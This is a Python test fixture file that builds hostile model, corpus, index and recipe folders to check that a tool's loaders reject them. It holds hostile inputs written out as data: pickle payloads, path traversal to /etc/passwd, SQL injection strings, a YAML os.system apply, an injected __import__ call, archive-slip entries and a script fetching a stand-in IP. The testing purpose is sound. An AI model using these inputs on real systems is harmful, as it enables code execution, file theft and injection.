"""Folders made to run code on whoever opens them, to read what lies outside, or to call somebody.

Each is a function (folder, mark): it fills the folder, and if any of it runs, ``mark`` appears.
"""

from __future__ import annotations

import io
import json
import shutil
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import duckdb
from tests.durability.bombs import PICKLES, Bundle, as_numpy, as_torch, code, pickled, template
from tests.durability.bundles_models import models
from tests.durability.hostile import Victims, reseal

from lexiscope.core.manifest import MANIFEST


def bundles(victims: Victims) -> list[Bundle]:
    return [*models(victims), *_autoencoders(victims), *_other_artifacts(victims), *_corpora(), *_recipes(victims)]


def _artifact(victims: Victims, kind: str, change: Callable[[Path, Path], None]) -> Callable[[Path, Path], None]:
    def make(folder: Path, mark: Path) -> None:
        shutil.copytree(victims.run / kind, folder)
        change(folder, mark)

    return make


def _replaced(file: str, content: Callable[[Path], bytes]) -> Callable[[Path, Path], None]:
    """One file of an artifact is something else; the manifest agrees."""

    def change(folder: Path, mark: Path) -> None:
        (folder / file).write_bytes(content(mark))
        reseal(folder)

    return change


def _manifest(folder: Path) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    return found


def _listed(name: str, link: Path | None = None) -> Callable[[Path, Path], None]:
    """A member with such a name, as a link if one is given."""

    def change(folder: Path, mark: Path) -> None:
        manifest = _manifest(folder)
        entry = next(iter(manifest["files"].values()))
        if link is not None:
            (folder / name).unlink(missing_ok=True)
            (folder / name).symlink_to(link)
            reseal(folder)
            return
        (folder.parent / "outside").write_text(str(mark))
        reseal(folder, {"files": {**manifest["files"], name: entry}})

    return change


def _autoencoders(victims: Victims) -> list[Bundle]:
    def sae(name: str, change: Callable[[Path, Path], None], said: str | None = None) -> Bundle:
        return Bundle("sae", name, _artifact(victims, "sae", change), said)

    def settings(**changes: Any) -> Callable[[Path, Path], None]:
        def change(folder: Path, mark: Path) -> None:
            (folder / "evil.py").write_text(code(mark))
            config = _manifest(folder)["config"]
            reseal(folder, {"config": {**config, "sae": {**config["sae"], **changes}}})

        return change

    def pickles(folder: Path, mark: Path) -> None:
        for name in (*PICKLES, "sae.pt", "ae.pt", "cfg.pkl", "sae_weights.npz"):
            (folder / name).write_bytes(as_torch(mark))

    def hooks(text: str) -> Callable[[Path, Path], None]:
        def change(folder: Path, mark: Path) -> None:
            reseal(folder, {"config": {**_manifest(folder)["config"], "reads": [text], "writes": [text], "hook": text}})

        return change

    unknown = "no architecture is called"
    secret = victims.texts.parent / "secret"
    secret.write_text("nobody's business")
    return [
        sae("a pickle for weights", _replaced("sae.safetensors", pickled), "do not make a TopK"),
        sae("a torch file for weights", _replaced("sae.safetensors", as_torch), "do not make a TopK"),
        sae("an npz for weights", _replaced("sae.safetensors", as_numpy), "do not make a TopK"),
        sae("pickles beside the weights", pickles),
        *(sae(f"architecture {name!r}", settings(architecture=name), unknown) for name in _NAMES),
        sae(
            "an architecture with its own activation",
            settings(architecture="matryoshka", activation="os.system"),
            "activation",
        ),
        sae(
            "an activation from a file",
            settings(architecture="matryoshka", activation={"name": "../evil"}),
            "activation",
        ),
        sae("a class to make", settings(__class__="evil.Evil", __reduce__=["os.system", ["true"]]), "unknown key"),
        sae("a hook point that is a call", hooks("module:__import__('os').system('true')")),
        sae("a hook point that is a path", hooks("../../etc/passwd"), "no hook point is called"),
        sae("a member above", _listed("../outside"), "a file outside the folder"),
        sae("a member from the root", _listed("/etc/passwd"), "a file outside the folder"),
        sae("a member round about", _listed("a/../../outside"), "a file outside the folder"),
        sae("a member of another system", _listed("..\\\\outside"), "a file outside the folder"),
        sae("a member with a line break", _listed("x\n../outside"), "is missing"),
        sae("weights that are a link out", _listed("sae.safetensors", secret), "leads out of its folder"),
        sae("metrics that are a link out", _listed("metrics.jsonl", Path("/etc/passwd")), "leads out of its folder"),
    ]


_NAMES = [
    "os.system",
    "../../evil",
    "evil",
    "lexiscope.saes.topk",
    "__init__",
    "base",
    "registry",
    "kernels",
    "baselines.pca",
]


def _other_artifacts(victims: Victims) -> list[Bundle]:
    def store(name: str, change: Callable[[Path, Path], None], said: str | None = None) -> Bundle:
        return Bundle("store", name, _artifact(victims, "store", change), said)

    def config(**changes: Any) -> Callable[[Path, Path], None]:
        return lambda folder, _: reseal(folder, {"config": {**_manifest(folder)["config"], **changes}})

    def sources(**changes: Any) -> Callable[[Path, Path], None]:
        def change(folder: Path, mark: Path) -> None:
            found = _manifest(folder)["sources"]
            reseal(folder, {"sources": {**found, **{key: {**found[key], **value} for key, value in changes.items()}}})

        return change

    def injected(folder: Path, mark: Path) -> None:
        """The folder's own name is SQL."""
        inner = folder / f"x'); COPY (SELECT 1) TO '{mark.name}'; --"
        shutil.copytree(victims.run / "index", inner)
        shutil.copytree(victims.run / "index", folder, dirs_exist_ok=True)

    def columns(folder: Path, mark: Path) -> None:
        query = f'SELECT 1 AS "id""); COPY (SELECT 1) TO \'{mark}\'; --"'
        (folder / "documents.parquet").unlink()
        duckdb.sql(f"COPY ({query}) TO '{folder / 'documents.parquet'}' (FORMAT parquet)")
        (folder / ".duckdbrc").write_text(f"COPY (SELECT 1) TO '{mark}';")
        reseal(folder)

    def card(folder: Path, mark: Path) -> None:
        (folder / "scorecard.pkl").write_bytes(pickled(mark))
        found = json.loads((folder / "scorecard.json").read_text())
        found["model"] = "\x1b]0;evil\x07\x1b[2J\n<script>" + template(mark)
        (folder / "scorecard.json").write_text(json.dumps(found))
        reseal(folder)

    return [
        store("documents that are a pickle", _replaced("documents.parquet", pickled), "documents.parquet is damaged"),
        store(
            "a column that is objects", _replaced("rows/tokens.safetensors", as_numpy), "tokens.safetensors is damaged"
        ),
        store(
            "statistics that are a pickle",
            _replaced("statistics.safetensors", as_torch),
            "statistics.safetensors is damaged",
        ),
        store(
            "a shard that is a pickle", _replaced("activations/resid_post.0/00000.safetensors", pickled), "is damaged"
        ),
        store("a dtype that is a function", config(dtype="os.system"), "dtype"),
        store("hook points that climb", config(hooks=["module:../../outside"]), "lists no file"),
        store("a model to fetch", sources(model={"name": "someone/evil", "revision": None}), None),
        store("a model from a folder above", sources(model={"name": "../../evil"}), None),
        store("a corpus to stream", sources(corpus={"source": "hf:someone/evil"}), "."),
        store("a corpus that is a function", sources(corpus={"source": "generated:os.system"}), "no generator"),
        store("a column name that is SQL", columns, "documents.parquet is damaged"),
        Bundle(
            "index", "a folder name that is SQL", lambda folder, mark: (folder.mkdir(), injected(folder, mark))[0], None
        ),
        Bundle(
            "index",
            "tables that are pickles",
            _artifact(victims, "index", _replaced("features/0000000000.parquet", pickled)),
            "is damaged",
        ),
        Bundle("index", "column names that are SQL", _artifact(victims, "index", columns), "has not the columns"),
        Bundle("scorecard", "names that steer a terminal", _artifact(victims, "scorecard", card), None),
        Bundle(
            "scorecard",
            "a pickle",
            _artifact(victims, "scorecard", _replaced("scorecard.json", pickled)),
            "can't be read",
        ),
    ]


def _corpora() -> list[Bundle]:
    def corpus(name: str, fill: Callable[[Path, Path], None], said: str | None = None) -> Bundle:
        def make(folder: Path, mark: Path) -> None:
            folder.mkdir()
            fill(folder, mark)

        return Bundle("corpus", name, make, said)

    def pickles(folder: Path, mark: Path) -> None:
        for name in ("a.pkl", "b.pt", "c.npz", "d.npy", "e.arrow", "data.parquet", "f.jsonl"):
            (folder / name).write_bytes(as_numpy(mark) if name.startswith(("c", "d")) else pickled(mark))

    def script(folder: Path, mark: Path) -> None:
        (folder / f"{folder.name}.py").write_text(code(mark))
        (folder / "dataset_infos.json").write_text("{}")
        (folder / "text.txt").write_text("some text")

    def archives(folder: Path, mark: Path) -> None:
        with tarfile.open(folder / "a.tar.gz", "w:gz") as tar:
            tar.addfile(tarfile.TarInfo(f"../../{mark.name}"), io.BytesIO())
        with zipfile.ZipFile(folder / "b.zip", "w") as file:
            file.writestr(f"../{mark.name}", "x")

    def yaml(folder: Path, mark: Path) -> None:
        (folder / "a.yaml").write_text(f"!!python/object/apply:os.system ['touch {mark}']")
        (folder / "b.jsonl").write_text(json.dumps({"text": "x", "__reduce__": ["os.system", [f"touch {mark}"]]}))
        (folder / "c.html").write_text(f"<script>fetch('http://203.0.113.1/{mark}')</script>" + template(mark))

    return [
        corpus("pickles for texts", pickles, "no usable document"),
        corpus("a loading script", script),
        corpus("archives that climb", archives, "no usable document"),
        corpus("texts that are calls", yaml),
    ]


def _recipes(victims: Victims) -> list[Bundle]:
    def recipe(name: str, text: str, said: str) -> Bundle:
        def make(folder: Path, mark: Path) -> None:
            folder.mkdir()
            (folder / "evil.py").write_text(code(mark))
            (folder / "recipe.toml").write_text(text.replace("MARK", str(mark)).replace("FOLDER", str(folder)))

        return Bundle("recipe", name, make, said)

    train, harvest = '[train]\nhook = "resid_post.0"\n', f'[harvest]\ncorpus = "{victims.texts}"\n'
    return [
        recipe("a term from a file", f'{train}optimise = {{ terms = ["../evil"] }}', "no term is called"),
        recipe(
            "a term that is a function",
            f'{train}optimise = {{ terms = [{{ name = "os.system" }}] }}',
            "no term is called",
        ),
        recipe("an architecture from a file", f'{train}sae = {{ architecture = "evil" }}', "no architecture is called"),
        recipe(
            "an activation from a file",
            f'{train}sae = {{ architecture = "matryoshka", activation = "evil" }}',
            "no activation",
        ),
        recipe("a repair that is a function", f'{train}optimise = {{ repair = ["os.system"] }}', "repair"),
        recipe("a model that is a program", f'{harvest}model = "FOLDER/evil.py"', "is a file; give the folder"),
        recipe("a model with own code", f'{harvest}model = "FOLDER"', "holds no config.json"),
        recipe(
            "a corpus that is a generator from elsewhere", '[harvest]\ncorpus = "generated:../../evil"', "no generator"
        ),
        recipe(
            "a hook point that is a call",
            f"{harvest}hooks = [\"module:__import__('os').system('touch MARK')\"]",
            "no module",
        ),
        recipe("a recipe that is a program", "__import__('os').mkdir('MARK')\n", "can't be read"),
    ]
